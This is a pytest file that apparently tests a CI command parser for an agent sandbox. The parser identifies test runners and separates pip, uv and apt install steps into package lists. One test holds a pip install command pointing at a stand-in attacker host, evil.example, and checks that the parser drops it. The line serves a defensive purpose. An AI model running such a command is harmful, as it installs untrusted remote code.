import pytest

from agent.ci.commands import read_command
from sandbox.base import Packages


@pytest.mark.parametrize(
    ("text", "reader", "tool"),
    [
        ("pytest -q tests", "pytest", "pytest"),
        ("FOO=1 python3.11 -X dev -m pytest", "pytest", "pytest"),
        ("coverage run -m pytest && coverage report", "pytest", "pytest"),
        ("python -Im coverage run --parallel-mode -m pytest", "pytest", "pytest"),
        ("python -Wdefault -X dev -mpytest", "pytest", "pytest"),
        ("python -W error -c 'import pytest'", "exit", "python"),
        ("uv run --group dev -- pytest -x", "pytest", "pytest"),
        ("poetry run python -m unittest discover", "unittest", "unittest"),
        ("ruff check . && ruff format --check .", "findings", "ruff"),
        ("python -m mypy src", "findings", "mypy"),
        ("tox -e py", "exit", "tox"),
        ("make test", "pytest", "make"),
        ("./ci/run.sh", "unittest", "./ci/run.sh"),
        ("python -m build", "exit", "build"),
        ("if true; then pytest; fi", "pytest", "pytest"),
        ("pip install pytest\necho pytest-cov", "exit", "echo"),
        ("pytest | tee log", "pytest", "pytest"),
        ("echo 'unbalanced", "exit", "echo"),
        ("", "exit", ""),
    ],
)
def test_what_a_command_runs(text: str, reader: str, tool: str) -> None:
    scripts = {"Makefile": "test:\n\tpytest\n", "ci/run.sh": "python -m unittest\n"}
    reading = read_command(text, lambda path: scripts.get(path, ""))
    assert (reading.reader, reading.tool) == (reader, tool)


def test_installs_become_packages_and_leave_the_command() -> None:
    reading = read_command(
        "python -m pip install --upgrade pip setuptools\n"
        "pip install -r requirements-dev.txt -c constraints.txt 'attrs>=23' \\\n  -e '.[test]'\n"
        "python -Im pip install --upgrade coverage\n"
        "uv sync --group dev --extra cli\n"
        "sudo apt-get install -y libxml2\n"
        "pip install ./sub && pytest -q\n"
    )
    assert reading.command == "pytest -q"
    assert reading.packages == Packages(
        requirements=("attrs>=23", "coverage"),
        requirement_files=("requirements-dev.txt",),
        constraint_files=("constraints.txt",),
        groups=("dev",),
        projects=(".[test]", ".[cli]", "sub"),
    )


def test_an_install_from_elsewhere_is_no_package() -> None:
    reading = read_command("pip install --index-url https://evil.example/ git+https://evil.example/x $THING -e git+https://e/x")
    assert reading.packages == Packages()
    assert reading.command == ""


def test_the_values_of_pips_options_are_no_packages() -> None:
    reading = read_command(
        "pip install --upgrade-strategy eager -U --root-user-action ignore --only-binary :all: attrs --group dev"
    )
    assert reading.packages == Packages(("attrs",), groups=("dev",))


def test_tools_with_an_environment_of_their_own_are_left_out_where_they_are_stood_in_for() -> None:
    reading = read_command("pipx install 'poetry==1.8' black tox>=4\nuv tool install nox[uv] $MORE towncrier")
    assert reading.packages == Packages(("black", "towncrier"))
